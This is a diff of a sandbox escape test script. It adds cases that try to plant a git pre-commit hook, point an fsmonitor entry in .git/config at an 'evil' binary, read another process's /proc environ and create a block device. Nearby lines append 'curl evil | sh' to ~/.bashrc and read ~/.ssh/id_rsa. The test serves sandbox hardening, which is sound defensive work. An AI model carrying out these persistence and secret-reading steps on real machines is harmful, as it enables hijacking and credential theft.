@@ -107,7 +107,18 @@ attempt_state "append to .git/config" 'cmp -s $W/.git/config $T/config.orig' '! 
     'cp $T/config.orig $W/.git/config' -- "$P" append "$W/.git/config" "[core]
 	fsmonitor = $O/evil
 "
+attempt_state "create .git/commondir" '[ ! -e $W/.git/commondir ]' '[ -e $W/.git/commondir ]' 'rm -f $W/.git/commondir' \
+    -- "$P" write "$W/.git/commondir"
 attempt_state "create workspace .envrc" '[ ! -e $W/.envrc ]' '[ -e $W/.envrc ]' 'rm -f $W/.envrc' -- "$P" write "$W/.envrc"
+# the same two without the namespace layer: the guard alone must undo them
+export GEMMASH_SANDBOX_USERNS=0
+attempt_state "hooks/pre-commit (guard only)" '[ ! -e $W/.git/hooks/pre-commit ]' '[ -e $W/.git/hooks/pre-commit ]' \
+    'rm -f $W/.git/hooks/pre-commit' -- "$P" write "$W/.git/hooks/pre-commit"
+attempt_state "append .git/config (guard only)" 'cmp -s $W/.git/config $T/config.orig' '! cmp -s $W/.git/config $T/config.orig' \
+    'cp $T/config.orig $W/.git/config' -- "$P" append "$W/.git/config" "[core]
+	fsmonitor = $O/evil
+"
+unset GEMMASH_SANDBOX_USERNS
 attempt "append to ~/.bashrc" '[ "$(cat $H/.bashrc)" = "# fake rc" ]' '[ "$(cat $H/.bashrc)" != "# fake rc" ]' \
     'echo "# fake rc" > $H/.bashrc' -- "$P" append "$H/.bashrc" "curl evil | sh"
 attempt "read ~/.ssh/id_rsa" 'true' 'true' ':' -- "$P" read "$H/.ssh/id_rsa"
@@ -116,6 +127,9 @@ attempt "udp send 127.0.0.1" 'true' 'true' ':' -- "$P" udp "$PORT"
 attempt "connect unix socket outside" 'true' 'true' ':' -- "$P" unix "$O/sock"
 attempt "ptrace a sibling" 'true' 'true' ':' -- "$P" ptrace "$SIB"
 attempt "signal a process outside" 'true' 'true' ':' -- "$P" signal "$SIB"
+attempt "read a sibling's /proc/PID/environ" 'true' 'true' ':' -- "$P" read "/proc/$SIB/environ"
+attempt "mknod a block device" '[ ! -e $W/disk ]' '[ -b $W/disk ]' 'rm -f $W/disk' \
+    -- "$PY" -c 'import os, stat, sys; os.mknod(sys.argv[1], stat.S_IFBLK | 0o600, os.makedev(7, 0)); print("OK made")' "$W/disk"
 attempt "io_uring_setup" 'true' 'true' ':' -- "$P" io_uring
 attempt "mount a tmpfs" 'true' 'true' 'umount $T/mnt 2>/dev/null; true' -- "$P" mount "$T/mnt"
 attempt "unshare a user namespace" 'true' 'true' ':' -- "$P" unshare
